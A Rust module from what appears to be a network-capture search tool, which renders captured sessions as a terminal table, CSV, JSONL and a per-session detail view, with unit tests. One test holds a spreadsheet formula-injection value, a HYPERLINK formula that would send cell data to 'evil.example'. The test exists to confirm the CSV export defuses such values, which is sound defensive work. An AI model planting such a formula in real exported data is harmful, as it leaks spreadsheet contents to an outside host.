//! Search results for people and scripts: the NetRAPTOR-style result table, CSV, JSONL,
//! and the detail view of one session.
//!
//! The table keeps NetRAPTOR's columns (time, protocol, server, client, MAC, host/subject,
//! URL, method/from, status/to, query, content type, attachment). It fits the terminal:
//! columns are taken in order of importance while they fit at their minimum width, the
//! spare width goes to the host and URL columns, and long values are cut with `…`
//! (display width aware, so Japanese subjects line up).

use crate::aggregate::{ProtocolHour, Talker, Transfer};
use crate::index::Hit;
use kuroko_model::SessionRecord;
use kuroko_model::config::VpnPools;
use kuroko_model::units::format_bytes;
use std::io::Write;
use std::path::Path;
use unicode_width::{UnicodeWidthChar, UnicodeWidthStr};

/// Table columns, in display order.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Column {
    Time,
    Protocol,
    Server,
    Client,
    Mac,
    HostSubject,
    Url,
    MethodFrom,
    StatusTo,
    Query,
    ContentType,
    Attachment,
    /// The login user (FTP, Telnet, POP3/IMAP/SMTP AUTH, HTTP Basic, Oracle).
    User,
}

struct Spec {
    col: Column,
    header: &'static str,
    min: usize,
    max: usize,
    /// Lower is more important (kept first on narrow terminals).
    priority: u8,
}

const SPECS: &[Spec] = &[
    Spec {
        col: Column::Time,
        header: "time",
        min: 19,
        max: 19,
        priority: 0,
    },
    Spec {
        col: Column::Protocol,
        header: "protocol",
        min: 6,
        max: 8,
        priority: 1,
    },
    // Addresses are what an analyst copies: both sides come right after the protocol and
    // are never cut while the width allows (see `layout`).
    Spec {
        col: Column::Server,
        header: "server",
        min: 15,
        max: 47,
        priority: 2,
    },
    Spec {
        col: Column::Client,
        header: "client",
        min: 13,
        max: 39,
        priority: 2,
    },
    Spec {
        col: Column::User,
        header: "user",
        min: 6,
        max: 24,
        priority: 8,
    },
    Spec {
        col: Column::Mac,
        header: "MAC",
        min: 17,
        max: 17,
        priority: 9,
    },
    Spec {
        col: Column::HostSubject,
        header: "host/subject",
        min: 12,
        max: 60,
        priority: 3,
    },
    Spec {
        col: Column::Url,
        header: "URL",
        min: 14,
        max: 80,
        priority: 4,
    },
    Spec {
        col: Column::MethodFrom,
        header: "method/from",
        min: 7,
        max: 30,
        priority: 5,
    },
    Spec {
        col: Column::StatusTo,
        header: "status/to",
        min: 6,
        max: 30,
        priority: 6,
    },
    Spec {
        col: Column::Query,
        header: "query",
        min: 8,
        max: 40,
        priority: 10,
    },
    Spec {
        col: Column::ContentType,
        header: "content type",
        min: 12,
        max: 30,
        priority: 8,
    },
    Spec {
        col: Column::Attachment,
        header: "attachment",
        min: 10,
        max: 30,
        priority: 11,
    },
];

/// The text of one cell.
pub fn cell(r: &SessionRecord, col: Column, tz: &chrono_tz::Tz) -> String {
    let http = r.http.as_ref();
    let mail = r.mail.as_ref();
    match col {
        Column::Time => r
            .start
            .to_datetime()
            .with_timezone(tz)
            .format("%Y-%m-%d %H:%M:%S")
            .to_string(),
        Column::Protocol => r.protocol.clone(),
        Column::Server => endpoint(&r.server.ip, r.server.port),
        Column::Client => r.client.ip.to_string(),
        Column::Mac => r.client.mac.clone().unwrap_or_default(),
        Column::HostSubject => r
            .host()
            .map(str::to_string)
            .or_else(|| mail.and_then(|m| m.subject.clone()))
            .unwrap_or_default(),
        Column::Url => http.and_then(|h| h.url.clone()).unwrap_or_default(),
        Column::MethodFrom => http
            .and_then(|h| h.method.clone())
            .or_else(|| mail.and_then(|m| m.from.clone()))
            .unwrap_or_default(),
        Column::StatusTo => http
            .and_then(|h| h.status.map(|s| s.to_string()))
            .or_else(|| mail.map(|m| m.to.join(", ")))
            .unwrap_or_default(),
        Column::Query => http
            .and_then(|h| h.query.clone())
            .or_else(|| r.dns.as_ref().and_then(|d| d.query.clone()))
            .unwrap_or_default(),
        Column::ContentType => http
            .and_then(|h| h.content_type.clone())
            .unwrap_or_default(),
        Column::User => crate::values::text_values(r, crate::query::Field::User).join(", "),
        Column::Attachment => mail
            .map(|m| {
                m.attachments
                    .iter()
                    .map(|a| a.name.as_str())
                    .collect::<Vec<_>>()
                    .join(", ")
            })
            .unwrap_or_default(),
    }
}

fn endpoint(ip: &std::net::IpAddr, port: u16) -> String {
    match ip {
        std::net::IpAddr::V6(v6) => format!("[{v6}]:{port}"),
        v4 => format!("{v4}:{port}"),
    }
}

/// Cuts `s` to `width` display columns, ending in `…` when cut; pads to `width`.
pub fn fit(s: &str, width: usize) -> String {
    let clean: String = s
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect();
    let w = clean.width();
    if w <= width {
        return format!("{clean}{}", " ".repeat(width - w));
    }
    let mut out = String::new();
    let mut used = 0;
    for c in clean.chars() {
        let cw = c.width().unwrap_or(0);
        if used + cw + 1 > width {
            break;
        }
        out.push(c);
        used += cw;
    }
    out.push('…');
    used += 1;
    out.push_str(&" ".repeat(width.saturating_sub(used)));
    out
}

/// Like `fit`, but cuts in the middle (`mtalk.goo…com:5228`): for URLs and endpoints the
/// end (port, file name) matters as much as the start.
pub fn fit_middle(s: &str, width: usize) -> String {
    let clean: String = s
        .chars()
        .map(|c| if c.is_control() { ' ' } else { c })
        .collect();
    if clean.width() <= width || width < 5 {
        return fit(&clean, width);
    }
    let chars: Vec<char> = clean.chars().collect();
    let tail_budget = (width - 1) / 2;
    let mut tail = Vec::new();
    let mut used = 0;
    for &c in chars.iter().rev() {
        let cw = c.width().unwrap_or(0);
        if used + cw > tail_budget {
            break;
        }
        tail.push(c);
        used += cw;
    }
    tail.reverse();
    let head = fit(
        &chars[..chars.len() - tail.len()].iter().collect::<String>(),
        width - used,
    );
    let head = head.trim_end_matches(' ');
    let mut out = head.to_string();
    out.extend(tail);
    let w = out.width();
    out.push_str(&" ".repeat(width.saturating_sub(w)));
    out
}

/// Picks the columns and their widths for a terminal `width` columns wide, given the rows.
fn layout(rows: &[Vec<String>], width: usize) -> Vec<(usize, usize)> {
    // (index into SPECS, width)
    let content = |i: usize| {
        rows.iter()
            .map(|r| r[i].width())
            .chain(std::iter::once(SPECS[i].header.width()))
            .max()
            .unwrap_or(0)
            .min(SPECS[i].max)
    };
    // An address cut in the middle is useless: address columns need their whole content.
    let min = |i: usize| match SPECS[i].col {
        Column::Server | Column::Client => SPECS[i].min.max(content(i)),
        _ => SPECS[i].min,
    };
    let mut by_priority: Vec<usize> = (0..SPECS.len()).collect();
    by_priority.sort_by_key(|&i| SPECS[i].priority);
    let mut chosen: Vec<usize> = Vec::new();
    let mut used = 0usize;
    for i in by_priority {
        let need = min(i) + usize::from(!chosen.is_empty());
        if used + need <= width || chosen.is_empty() {
            chosen.push(i);
            used += need;
        }
    }
    chosen.sort();
    let mut widths: Vec<(usize, usize)> = chosen.iter().map(|&i| (i, min(i))).collect();
    // Spare width to the columns whose content is wider than their minimum, by priority.
    let mut spare = width.saturating_sub(used);
    let mut order: Vec<usize> = (0..widths.len()).collect();
    order.sort_by_key(|&k| SPECS[widths[k].0].priority);
    for k in order {
        if spare == 0 {
            break;
        }
        let (i, w) = widths[k];
        let want = content(i).saturating_sub(w);
        let give = want.min(spare);
        widths[k].1 += give;
        spare -= give;
    }
    widths
}

/// A header that fits: `method/from` becomes `method` in a narrow column.
fn header(h: &str, width: usize) -> String {
    if h.width() > width
        && let Some((first, _)) = h.split_once('/')
    {
        return first.to_string();
    }
    h.to_string()
}

/// The result table, at most `width` columns wide. An address in `[site] vpn_pools` is
/// marked `(VPN)`, as in the findings table.
pub fn table(
    out: &mut dyn Write,
    hits: &[Hit],
    tz: &chrono_tz::Tz,
    width: usize,
    vpn: &VpnPools,
) -> std::io::Result<()> {
    let rows: Vec<Vec<String>> = hits
        .iter()
        .map(|h| {
            SPECS
                .iter()
                .map(|s| {
                    let mut c = cell(&h.record, s.col, tz);
                    match s.col {
                        Column::Protocol if h.packets_gone => c.push('†'),
                        Column::Server if vpn.contains(h.record.server.ip) => c.push_str(VPN_MARK),
                        Column::Client if vpn.contains(h.record.client.ip) => c.push_str(VPN_MARK),
                        _ => {}
                    }
                    c
                })
                .collect()
        })
        .collect();
    let cols = layout(&rows, width);
    let line = |cells: &mut dyn Iterator<Item = (usize, usize, String)>| -> String {
        let mut s = String::new();
        for (k, (i, w, text)) in cells.enumerate() {
            if k > 0 {
                s.push(' ');
            }
            if matches!(SPECS[i].col, Column::Url | Column::Server) {
                s.push_str(&fit_middle(&text, w));
            } else {
                s.push_str(&fit(&text, w));
            }
        }
        s.trim_end().to_string()
    };
    writeln!(
        out,
        "{}",
        line(
            &mut cols
                .iter()
                .map(|&(i, w)| (i, w, header(SPECS[i].header, w)))
        )
    )?;
    for r in &rows {
        writeln!(
            out,
            "{}",
            line(&mut cols.iter().map(|&(i, w)| (i, w, r[i].clone())))
        )?;
    }
    if hits.iter().any(|h| h.packets_gone) {
        writeln!(
            out,
            "† packets no longer in the store (rotated out); the session metadata remains"
        )?;
    }
    Ok(())
}

/// What the table adds to an address in `[site] vpn_pools`.
pub const VPN_MARK: &str = " (VPN)";

/// One JSON record a line (`--format jsonl`): the session records, with
/// `"client_vpn": true` / `"server_vpn": true` for an address in `[site] vpn_pools`
/// ([`vpn_keys`]).
pub fn jsonl(out: &mut dyn Write, hits: &[Hit], vpn: &VpnPools) -> std::io::Result<()> {
    for h in hits {
        serde_json::to_writer(&mut *out, &with_vpn_keys(&h.record, vpn)?)?;
        out.write_all(b"\n")?;
    }
    Ok(())
}

/// A session record as JSON with its VPN-pool keys ([`vpn_keys`]).
pub fn with_vpn_keys(r: &SessionRecord, vpn: &VpnPools) -> std::io::Result<serde_json::Value> {
    let mut v = serde_json::to_value(r)?;
    if let Some(o) = v.as_object_mut() {
        for (k, b) in vpn_keys(r, vpn) {
            o.insert(k.into(), b.into());
        }
    }
    Ok(v)
}

/// `client_vpn` / `server_vpn`, each present (`true`) only when that side's address is in
/// `[site] vpn_pools` (the same test as `search --stats`'s `"vpn": true`).
pub fn vpn_keys(r: &SessionRecord, vpn: &VpnPools) -> Vec<(&'static str, bool)> {
    let mut keys = Vec::new();
    if vpn.contains(r.client.ip) {
        keys.push(("client_vpn", true));
    }
    if vpn.contains(r.server.ip) {
        keys.push(("server_vpn", true));
    }
    keys
}

pub const CSV_HEADER: &[&str] = &[
    "time",
    "protocol",
    "server",
    "server_port",
    "client",
    "client_port",
    "mac",
    "host_subject",
    "url",
    "method_from",
    "status_to",
    "query",
    "content_type",
    "attachment",
    "bytes_up",
    "bytes_down",
    "packets",
    "id",
    "captured_bytes",
    "community_id",
    "user",
    "client_vpn",
    "server_vpn",
];

/// CSV with a header (`--format csv`); times in RFC 3339 UTC; cells defused
/// ([`kuroko_model::csv_cell::defuse`]); `client_vpn`/`server_vpn` `true` or `false`.
pub fn csv(
    out: &mut dyn Write,
    hits: &[Hit],
    tz: &chrono_tz::Tz,
    vpn: &VpnPools,
) -> std::io::Result<()> {
    let mut w = ::csv::Writer::from_writer(out);
    w.write_record(CSV_HEADER)?;
    for h in hits {
        let r = &h.record;
        let c = |col| cell(r, col, tz);
        let row = [
            r.start.to_rfc3339(),
            r.protocol.clone(),
            r.server.ip.to_string(),
            r.server.port.to_string(),
            r.client.ip.to_string(),
            r.client.port.to_string(),
            c(Column::Mac),
            c(Column::HostSubject),
            c(Column::Url),
            c(Column::MethodFrom),
            c(Column::StatusTo),
            c(Column::Query),
            c(Column::ContentType),
            c(Column::Attachment),
            r.bytes_up.to_string(),
            r.bytes_down.to_string(),
            r.packets.to_string(),
            r.id.clone(),
            r.captured_bytes.to_string(),
            r.community_id.clone(),
            c(Column::User),
            vpn.contains(r.client.ip).to_string(),
            vpn.contains(r.server.ip).to_string(),
        ];
        // Values came off the wire: no cell may reach a spreadsheet as a formula.
        w.write_record(
            row.iter()
                .map(|v| kuroko_model::csv_cell::defuse(v).into_owned()),
        )?;
    }
    w.flush()
}

/// Where a reconstructed object is stored: `DIR/files/ab/cdef….bin`, or `….eml` for a
/// whole mail ([`kuroko_model::objects`]); the `.bin` name when neither exists.
pub fn object_path(data_dir: &Path, sha256: &str) -> std::path::PathBuf {
    let objects = kuroko_model::objects::Objects::new(data_dir);
    objects
        .path(sha256)
        .unwrap_or_else(|| kuroko_model::objects::object_path(objects.root(), sha256, "bin"))
}

/// The detail view of one session: every field, the reconstructed objects with their
/// paths, the packet count, then the record as JSON.
pub fn detail(
    out: &mut dyn Write,
    h: &Hit,
    data_dir: &Path,
    tz: &chrono_tz::Tz,
    vpn: &VpnPools,
) -> std::io::Result<()> {
    let r = &h.record;
    let local = |t: kuroko_model::Timestamp| {
        t.to_datetime()
            .with_timezone(tz)
            .format("%Y-%m-%d %H:%M:%S%.3f %Z")
            .to_string()
    };
    writeln!(out, "session   {}", r.id)?;
    writeln!(out, "start     {}  ({})", local(r.start), r.start)?;
    writeln!(out, "end       {}  ({})", local(r.end), r.end)?;
    writeln!(out, "protocol  {} over {}", r.protocol, r.transport)?;
    let mac = |m: &Option<String>| m.as_ref().map(|m| format!("  MAC {m}")).unwrap_or_default();
    let mark = |ip: std::net::IpAddr| if vpn.contains(ip) { VPN_MARK } else { "" };
    writeln!(
        out,
        "client    {}{}{}",
        endpoint(&r.client.ip, r.client.port),
        mark(r.client.ip),
        mac(&r.client.mac)
    )?;
    writeln!(
        out,
        "server    {}{}{}",
        endpoint(&r.server.ip, r.server.port),
        mark(r.server.ip),
        mac(&r.server.mac)
    )?;
    writeln!(
        out,
        "bytes     up {} ({}), down {} ({})",
        r.bytes_up,
        format_bytes(r.bytes_up),
        r.bytes_down,
        format_bytes(r.bytes_down)
    )?;
    writeln!(
        out,
        "packets   {} ({} up, {} down)",
        r.packets, r.packets_up, r.packets_down
    )?;
    if let Some(v) = r.vlan {
        writeln!(out, "vlan      {v}")?;
    }
    if !r.flags.is_empty() {
        writeln!(out, "flags     {}", r.flags.join(", "))?;
    }
    if r.missing_bytes > 0 {
        writeln!(out, "missing   {} bytes (capture gaps)", r.missing_bytes)?;
    }
    writeln!(
        out,
        "segments  {}–{}{}",
        r.span.first_segment,
        r.span.last_segment,
        if h.packets_gone {
            "  (packets rotated out of the store)"
        } else {
            ""
        }
    )?;
    if let Some(t) = &r.tunnel {
        writeln!(
            out,
            "tunnel    {}{}{}",
            t.kind,
            t.target
                .as_deref()
                .map(|x| format!(" to {x}"))
                .unwrap_or_default(),
            t.inner
                .as_deref()
                .map(|x| format!(", carrying {x}"))
                .unwrap_or_default()
        )?;
    }
    if let Some(tls) = &r.tls {
        certificate(out, tls)?;
    }
    if !r.files.is_empty() {
        writeln!(out, "objects")?;
        for f in &r.files {
            let p = object_path(data_dir, &f.sha256);
            writeln!(
                out,
                "  {} {} {} {}{}  {}{}",
                f.kind,
                f.direction,
                f.name.as_deref().unwrap_or("-"),
                format_bytes(f.bytes),
                if f.partial { " (partial)" } else { "" },
                p.display(),
                if p.exists() { "" } else { "  (not stored)" }
            )?;
        }
    }
    writeln!(out, "record")?;
    let pretty = serde_json::to_string_pretty(r).map_err(std::io::Error::other)?;
    for l in pretty.lines() {
        writeln!(out, "  {l}")?;
    }
    Ok(())
}

/// The TLS layer and the server's leaf certificate with its judgment
/// (`kuroko_model::certs::judge_leaf`, the one `weak_tls` and the report use).
fn certificate(out: &mut dyn Write, tls: &kuroko_model::session::Tls) -> std::io::Result<()> {
    writeln!(
        out,
        "tls       {}{}",
        tls.version.as_deref().unwrap_or("version unknown"),
        tls.sni
            .as_deref()
            .map(|s| format!("  SNI {s}"))
            .unwrap_or_default()
    )?;
    let Some((leaf, j)) = kuroko_model::certs::judge_leaf(tls) else {
        return Ok(());
    };
    writeln!(out, "cert      {}", leaf.subject)?;
    writeln!(out, "  issuer  {}", leaf.issuer)?;
    writeln!(out, "  valid   {} – {}", leaf.not_before, leaf.not_after)?;
    writeln!(out, "  serial  {}", leaf.serial)?;
    writeln!(out, "  sha1    {}", leaf.sha1)?;
    writeln!(out, "  sha256  {}", leaf.sha256)?;
    if !leaf.san.is_empty() {
        writeln!(out, "  san     {}", leaf.san.join(", "))?;
    }
    let mut problems = Vec::new();
    if j.expired {
        problems.push("expired at session time".to_string());
    }
    if j.self_signed {
        problems.push("self-signed".to_string());
    }
    if let Some(sni) = &j.name_mismatch {
        problems.push(format!("does not name {sni}"));
    }
    writeln!(
        out,
        "  judged  {}",
        if problems.is_empty() {
            "ok".to_string()
        } else {
            problems.join(", ")
        }
    )?;
    if tls.certs.len() > 1 {
        for c in &tls.certs[1..] {
            writeln!(out, "  chain   {}  (issuer {})", c.subject, c.issuer)?;
        }
    }
    Ok(())
}

pub fn stats_protocol_hour(
    out: &mut dyn Write,
    rows: &[ProtocolHour],
    tz: &chrono_tz::Tz,
) -> std::io::Result<()> {
    writeln!(
        out,
        "{:<16} {:<10} {:>10} {:>12} {:>12}",
        "hour", "protocol", "sessions", "bytes up", "bytes down"
    )?;
    for r in rows {
        let h = r
            .hour
            .to_datetime()
            .with_timezone(tz)
            .format("%Y-%m-%d %H:00");
        writeln!(
            out,
            "{:<16} {:<10} {:>10} {:>12} {:>12}",
            h,
            fit(&r.protocol, 10).trim_end(),
            r.sessions,
            format_bytes(r.bytes_up),
            format_bytes(r.bytes_down)
        )?;
    }
    Ok(())
}

pub fn stats_talkers(out: &mut dyn Write, rows: &[Talker]) -> std::io::Result<()> {
    writeln!(
        out,
        "{:<39} {:<8} {:>10} {:>12} {:>12}",
        "address", "where", "sessions", "sent", "received"
    )?;
    for r in rows {
        writeln!(
            out,
            "{:<39} {:<8} {:>10} {:>12} {:>12}",
            r.ip.to_string(),
            match (r.vpn, r.internal) {
                (true, _) => "vpn",
                (false, true) => "internal",
                (false, false) => "external",
            },
            r.sessions,
            format_bytes(r.bytes_sent),
            format_bytes(r.bytes_received)
        )?;
    }
    Ok(())
}

pub fn stats_domains(
    out: &mut dyn Write,
    rows: &[crate::aggregate::DomainRow],
) -> std::io::Result<()> {
    writeln!(out, "{:<50} {:>10} {:>12}", "domain", "sessions", "bytes")?;
    for r in rows {
        writeln!(
            out,
            "{:<50} {:>10} {:>12}",
            r.domain,
            r.sessions,
            format_bytes(r.bytes)
        )?;
    }
    if rows.first().is_some_and(|r| r.partial) {
        writeln!(
            out,
            "(the newest {} matching sessions counted; narrow the query for all)",
            crate::aggregate::MAX_DOMAIN_SCAN
        )?;
    }
    Ok(())
}

pub fn stats_transfers(out: &mut dyn Write, rows: &[Transfer]) -> std::io::Result<()> {
    writeln!(
        out,
        "{:<10} {:<9} {:>10} {:>12} {:>12}",
        "protocol", "direction", "sessions", "uploaded", "downloaded"
    )?;
    for r in rows {
        writeln!(
            out,
            "{:<10} {:<9} {:>10} {:>12} {:>12}",
            fit(&r.protocol, 10).trim_end(),
            r.direction.as_str(),
            r.sessions,
            format_bytes(r.bytes_up),
            format_bytes(r.bytes_down)
        )?;
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use kuroko_model::Timestamp;
    use kuroko_model::session::{Endpoint, Http};

    #[test]
    fn fit_cuts_by_display_width() {
        assert_eq!(fit("abc", 5), "abc  ");
        assert_eq!(fit("abcdef", 4), "abc…");
        // double-width characters: never exceed the width
        let j = fit("パスワード変更", 7);
        assert_eq!(j.width(), 7, "{j}");
        assert!(j.starts_with("パスワ") && j.contains('…'));
        assert_eq!(
            fit_middle("mtalk.google.com:5228", 12).trim_end(),
            "mtalk.…:5228"
        );
        assert_eq!(fit_middle("mtalk.google.com:5228", 12).width(), 12);
        assert_eq!(fit("a\nb", 3), "a b");
    }

    #[test]
    fn table_fits_80_columns_and_keeps_the_connect_port() {
        let mut r = SessionRecord::new(
            "s1".into(),
            Timestamp(1_795_219_200_000_000_000),
            "tcp",
            Endpoint::new("192.168.0.10".parse().unwrap(), 50000),
            Endpoint::new("192.168.0.100".parse().unwrap(), 8080),
        );
        r.protocol = "http".into();
        r.http = Some(Http {
            method: Some("CONNECT".into()),
            host: Some("mtalk.google.com".into()),
            url: Some("mtalk.google.com:5228".into()),
            status: Some(403),
            content_type: Some("text/html".into()),
            ..Default::default()
        });
        let hits = vec![Hit {
            record: r,
            packets_gone: false,
        }];
        let tz: chrono_tz::Tz = "Asia/Tokyo".parse().unwrap();
        let mut out = Vec::new();
        table(&mut out, &hits, &tz, 80, &VpnPools::default()).unwrap();
        let text = String::from_utf8(out).unwrap();
        for l in text.lines() {
            assert!(l.width() <= 80, "{l}");
        }
        let row = text.lines().nth(1).unwrap();
        assert!(row.starts_with("2026-11-21 09:00:00 http"), "{row}");
        // Both addresses whole (the server with its port), then the method.
        assert!(
            row.contains("192.168.0.100:8080 192.168.0.10 ") && row.contains("CONNECT"),
            "{row}"
        );
        // wide: every column, nothing cut
        let mut out = Vec::new();
        table(&mut out, &hits, &tz, 250, &VpnPools::default()).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(
            text.contains("mtalk.google.com:5228")
                && text.contains("403")
                && text.contains("text/html"),
            "{text}"
        );
        assert!(text.lines().next().unwrap().contains("content type"));
    }

    #[test]
    fn at_80_columns_both_addresses_stay_whole_and_the_user_shows() {
        let mut r = SessionRecord::new(
            "s3".into(),
            Timestamp(1_795_219_200_000_000_000),
            "tcp",
            Endpoint::new("2001:db8:10:20::1234".parse().unwrap(), 50000),
            Endpoint::new("2001:db8:ffff:eeee::21".parse().unwrap(), 21),
        );
        r.protocol = "ftp".into();
        r.ftp = Some(kuroko_model::session::Ftp {
            user: Some("alice".into()),
            ..Default::default()
        });
        let hits = vec![Hit {
            record: r,
            packets_gone: false,
        }];
        let tz: chrono_tz::Tz = "Asia/Tokyo".parse().unwrap();
        for width in [80, 200] {
            let mut out = Vec::new();
            table(&mut out, &hits, &tz, width, &VpnPools::default()).unwrap();
            let text = String::from_utf8(out).unwrap();
            assert!(
                text.contains("[2001:db8:ffff:eeee::21]:21")
                    && text.contains("2001:db8:10:20::1234"),
                "{width}: {text}"
            );
            if width > 80 {
                assert!(text.contains("alice"), "{width}: {text}");
            }
        }
        let mut out = Vec::new();
        csv(&mut out, &hits, &tz, &VpnPools::default()).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(
            text.lines()
                .next()
                .unwrap()
                .ends_with(",user,client_vpn,server_vpn"),
            "{text}"
        );
        assert!(
            text.lines().nth(1).unwrap().ends_with(",alice,false,false"),
            "{text}"
        );
    }

    #[test]
    fn a_stored_mail_is_found_as_eml() {
        let dir = tempfile::tempdir().unwrap();
        let sha = "ab".repeat(32);
        let p = dir
            .path()
            .join("files/ab")
            .join(format!("{}.eml", &sha[2..]));
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, b"Subject: x\r\n\r\nhi").unwrap();
        assert_eq!(object_path(dir.path(), &sha), p);
        let other = "cd".repeat(32);
        assert!(object_path(dir.path(), &other).ends_with(format!("cd/{}.bin", &other[2..])));
    }

    #[test]
    fn csv_cells_off_the_wire_never_arrive_as_formulas() {
        let mut r = SessionRecord::new(
            "s2".into(),
            Timestamp(0),
            "http",
            Endpoint::new("10.0.0.1".parse().unwrap(), 40000),
            Endpoint::new("10.0.0.2".parse().unwrap(), 80),
        );
        r.http = Some(kuroko_model::session::Http {
            host: Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".into()),
            ..Default::default()
        });
        let mut out = Vec::new();
        csv(
            &mut out,
            &[Hit {
                record: r,
                packets_gone: false,
            }],
            &chrono_tz::UTC,
            &VpnPools::default(),
        )
        .unwrap();
        let text = String::from_utf8(out).unwrap();
        let row = text.lines().nth(1).unwrap();
        assert!(!row.contains(",=") && !row.contains(",\"="), "{row}");
        assert!(row.contains("'=HYPERLINK("), "{row}");
    }

    #[test]
    fn csv_has_a_header_and_one_row_per_session() {
        let r = SessionRecord::new(
            "s,1".into(),
            Timestamp(0),
            "udp",
            Endpoint::new("10.0.0.1".parse().unwrap(), 5353),
            Endpoint::new("10.0.0.2".parse().unwrap(), 53),
        );
        let mut out = Vec::new();
        csv(
            &mut out,
            &[Hit {
                record: r,
                packets_gone: false,
            }],
            &chrono_tz::UTC,
            &VpnPools::default(),
        )
        .unwrap();
        let text = String::from_utf8(out).unwrap();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines[0], CSV_HEADER.join(","));
        // The id (quoted: it holds a comma), then captured bytes, the (empty) flow id and
        // the (empty) user.
        assert!(
            lines[1].ends_with(",\"s,1\",0,,,false,false"),
            "{}",
            lines[1]
        );
        assert_eq!(lines.len(), 2);
    }

    #[test]
    fn a_vpn_pool_address_is_marked_in_the_table_jsonl_and_csv() {
        let r = SessionRecord::new(
            "v1".into(),
            Timestamp(1_795_219_200_000_000_000),
            "tcp",
            Endpoint::new("10.8.0.5".parse().unwrap(), 50000),
            Endpoint::new("10.0.2.10".parse().unwrap(), 445),
        );
        let hits = vec![Hit {
            record: r,
            packets_gone: false,
        }];
        let vpn = VpnPools::new(vec!["10.8.0.0/24".parse().unwrap()]);
        let tz: chrono_tz::Tz = "Asia/Tokyo".parse().unwrap();
        for width in [80, 200] {
            let mut out = Vec::new();
            table(&mut out, &hits, &tz, width, &vpn).unwrap();
            let text = String::from_utf8(out).unwrap();
            let row = text.lines().nth(1).unwrap();
            assert!(
                row.contains("10.0.2.10:445 ") && row.contains(" 10.8.0.5 (VPN)"),
                "{width}: {text}"
            );
            assert_eq!(text.matches("(VPN)").count(), 1, "{text}");
        }
        let mut out = Vec::new();
        jsonl(&mut out, &hits, &vpn).unwrap();
        let v: serde_json::Value = serde_json::from_slice(&out).unwrap();
        assert_eq!(v["client_vpn"], true, "{v}");
        assert!(v.get("server_vpn").is_none(), "{v}");
        assert_eq!(v["id"], "v1");
        let mut out = Vec::new();
        csv(&mut out, &hits, &tz, &vpn).unwrap();
        let text = String::from_utf8(out).unwrap();
        assert!(
            text.lines().nth(1).unwrap().ends_with(",true,false"),
            "{text}"
        );
        // No pools: nothing marked.
        let mut out = Vec::new();
        jsonl(&mut out, &hits, &VpnPools::default()).unwrap();
        assert!(!String::from_utf8(out).unwrap().contains("_vpn"));
    }
}
